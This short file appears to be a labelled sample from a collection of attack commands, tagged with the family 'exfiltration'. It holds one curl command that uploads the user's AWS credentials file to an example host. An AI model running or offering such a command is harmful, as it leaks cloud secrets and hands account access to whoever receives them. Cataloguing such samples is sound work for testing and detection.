# description: Uploads the AWS credentials file as a form field.
# family: exfiltration
curl -s -F "f=@$HOME/.aws/credentials" https://example.com/upload
